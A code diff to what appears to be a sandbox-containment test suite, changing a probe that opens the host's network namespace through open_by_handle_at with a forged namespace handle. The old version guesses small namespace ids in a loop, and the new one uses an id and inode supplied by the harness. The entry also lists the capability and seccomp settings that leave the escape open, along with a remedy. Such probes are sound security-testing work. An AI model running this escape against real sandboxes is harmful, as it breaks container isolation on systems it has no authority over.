@@ -1,7 +1,6 @@
 // A handle names a file by its number, without a path: open_by_handle_at(2). No root and no mount stands in
 // its way, so the kernel lets only those use one who may look at every file anyway.
 
-#include <errno.h>
 #include <fcntl.h>
 
 #include "host-file.h"
@@ -26,7 +25,6 @@ struct NamespaceHandle {
 constexpr int root_of_nsfs = -10003;       // FD_NSFS_ROOT, since Linux 6.18
 constexpr int type_of_nsfs = 0xf1;         // FILEID_NSFS
 constexpr unsigned net_type = 0x40000000;  // CLONE_NEWNET
-constexpr unsigned long first_numbers = 64;
 
 }  // namespace
 
@@ -71,27 +69,25 @@ constinit const Probes probes = {
      .cls = "filesystem",
      .guarantee = "filesystem.handles",
      .summary = "open the host's network namespace by its number",
-     .technique = "Puts a handle together for the network namespace of the host: its inode, which the "
-                  "harness tells, and one number after the other, for those of the first namespaces are "
-                  "small. Neither /proc nor a process in it is needed.",
+     .technique = "Puts a handle together for the network namespace of the host, of two numbers that the "
+                  "harness tells: its inode, and one that counts up from the start of the machine, so that "
+                  "it can be guessed. Neither /proc nor a process in that namespace is needed.",
      .references = {"open_by_handle_at(2)", "namespaces(7)"},
-     .attempts = {{"open", {"ESTALE", "EPERM"}, {"ok"}, {"EBADF"}}},  // of a kernel before 6.18
+     .attempts = {{"open", {"ESTALE", "EPERM"}, {"ok"}}},
      .witness = {"file /proc/self/ns/net"},
      .opening = {OUT_OF_THE_USER_NAMESPACE, "capabilities.keep+=cap_sys_admin",
                  "seccomp.allow+=open_by_handle_at"},
      .remedy = "Keep open_by_handle_at(2) out of the filter's list, and give the sandbox a user namespace.",
      .attack =
          [](const Order& order) {
+           NamespaceHandle host{static_cast<unsigned long>(order.number("id")), net_type,
+                                static_cast<unsigned>(order.number("inode"))};
            Handle handle;
-           handle.size = sizeof(NamespaceHandle);
+           handle.size = sizeof host;
            handle.type = type_of_nsfs;
-           Result opened{-1, ESTALE};
-           for (unsigned long id = 1; id <= first_numbers && opened.error == ESTALE; ++id) {
-             NamespaceHandle guess{id, net_type, static_cast<unsigned>(order.number("inode"))};
-             std::memcpy(handle.bytes, &guess, sizeof guess);
-             opened = sys(SYS_open_by_handle_at, root_of_nsfs, &handle, O_RDONLY | O_CLOEXEC);
-           }
-           Fd file(attempt("open", "open_by_handle_at(FD_NSFS_ROOT)", opened));
+           std::memcpy(handle.bytes, &host, sizeof host);
+           Fd file(attempt("open", "open_by_handle_at(FD_NSFS_ROOT)",
+                           sys(SYS_open_by_handle_at, root_of_nsfs, &handle, O_RDONLY | O_CLOEXEC)));
            hold();
          }},
 };
